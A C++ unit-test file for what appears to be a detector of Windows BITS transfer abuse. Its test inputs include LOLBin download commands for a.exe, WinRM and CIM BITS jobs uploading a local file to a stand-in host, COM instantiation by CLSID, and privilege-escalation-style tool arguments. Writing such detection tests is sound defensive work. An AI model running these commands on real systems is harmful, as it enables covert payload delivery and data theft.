#include "bits/other_programs.h"

#include <gtest/gtest.h>

#include "reading_builder.h"

namespace bits {
namespace {

using Items = std::vector<std::string>;

TEST(OtherPrograms, DesktopImageDownloader) {
  const auto t =
      read_desktop_image(program({"desktopimgdownldr.exe", "/lockscreenurl:https://h.example/a.exe",
                                  "/eventName:desktopimgdownldr"}));
  ASSERT_TRUE(t);
  EXPECT_EQ(t->direction, Direction::download);
  EXPECT_EQ(t->sources, Items{"https://h.example/a.exe"});
  EXPECT_EQ(t->job_name, "desktopimgdownldr");
  EXPECT_FALSE(read_desktop_image(program({"desktopimgdownldr.exe", "/eventName:x"})));
  EXPECT_FALSE(t->is_renamed);
  const auto renamed = read_desktop_image(program({"other.exe", "/lockscreenurl:https://h/a"}));
  ASSERT_TRUE(renamed);
  EXPECT_TRUE(renamed->is_renamed);
  EXPECT_FALSE(read_desktop_image(program({"other.exe", "/lockscreenurl:a.png"})));
}

TEST(OtherPrograms, CreateJobThroughCmdlets) {
  auto wsman = cmdlet("Invoke-WSManAction",
                      {name("Action"), pos("CreateJob"), name("ResourceUri"),
                       pos("wmi/root/microsoft/bits/BitsClientJob"), name("ValueSet")});
  powershell::Argument values;
  values.value = object({{"DisplayName", "j"},
                         {"RemoteUrl", "https://h.example/x"},
                         {"LocalFile", "C:\\x"},
                         {"Type", "1"}});
  wsman.arguments.push_back(values);
  const auto t = read_create_job(wsman);
  ASSERT_TRUE(t);
  EXPECT_EQ(t->command, "BitsClientJob CreateJob");
  EXPECT_EQ(t->direction, Direction::upload);
  EXPECT_EQ(t->sources, Items{"C:\\x"});
  EXPECT_EQ(t->destinations, Items{"https://h.example/x"});

  const auto cim =
      read_create_job(cmdlet("Invoke-CimMethod", {name("ClassName"), pos("BitsClientJob"),
                                                  name("MethodName"), pos("CreateJob")}));
  ASSERT_TRUE(cim);
  EXPECT_EQ(cim->direction, Direction::unknown);
  EXPECT_FALSE(read_create_job(cmdlet("Invoke-CimMethod", {pos("Win32_Process"), pos("Create")})));
  EXPECT_FALSE(
      read_create_job(cmdlet("Get-CimInstance", {pos("BitsClientJob"), pos("CreateJob")})));
}

TEST(OtherPrograms, CreateJobThroughWinrm) {
  const auto t = read_create_job(
      program({"winrm", "invoke", "CreateJob", "wmi/root/microsoft/bits/BitsClientJob",
               "@{DisplayName=\"j\";RemoteUrl=\"http://h.example/"
               "a.exe\";LocalFile=\"C:\\a.exe\";Type=\"0\"}"}));
  ASSERT_TRUE(t);
  EXPECT_EQ(t->direction, Direction::download);
  EXPECT_EQ(t->sources, Items{"http://h.example/a.exe"});
  EXPECT_EQ(t->destinations, Items{"C:\\a.exe"});
  const auto reply =
      read_create_job(program({"cscript.exe", "C:\\Windows\\System32\\winrm.vbs", "invoke",
                               "createjob", "wmi/root/microsoft/bits/bitsclientjob",
                               "@{RemoteUrl=http://h.example/a;LocalFile=C:\\a;Type=2}"}));
  ASSERT_TRUE(reply);
  EXPECT_EQ(reply->direction, Direction::upload_reply);
  EXPECT_FALSE(
      read_create_job(program({"winrm", "enumerate", "wmi/root/microsoft/bits/BitsClientJob"})));
}

TEST(OtherPrograms, ComObjectsCountWhereTheyAreMade) {
  EXPECT_TRUE(
      read_com_use("$t=[type]::GetTypeFromCLSID('4991D34B-80A1-4291-83B6-3328366B9097');[activator]"
                   "::CreateInstance($t)"));
  EXPECT_TRUE(read_com_use("New-Object BITSReference4_0.BackgroundCopyManager4_0"));
  EXPECT_TRUE(
      read_com_use("Add-Type -TypeDefinition '[ComImport] interface IBackgroundCopyManager {}'"));
  EXPECT_FALSE(read_com_use("-l 1337 -p cmd.exe -t * -c {4991d34b-80a1-4291-83b6-3328366b9097}"));
  EXPECT_FALSE(read_com_use(
      "[Microsoft.BackgroundIntelligentTransfer.Management.BitsJobState]::Transferred"));
  EXPECT_FALSE(read_com_use("New-Object Net.WebClient"));
}

TEST(OtherPrograms, TheProvidersClassCountsWhereItIsCalled) {
  EXPECT_TRUE(
      read_provider_use("([wmiclass]'root/microsoft/bits:BitsClientJob').CreateJob('j',$null)"));
  EXPECT_FALSE(read_provider_use("Get-WmiObject BitsClientJob"));
  EXPECT_FALSE(read_provider_use("CreateJob BitsClientJob"));
}

}  // namespace
}  // namespace bits
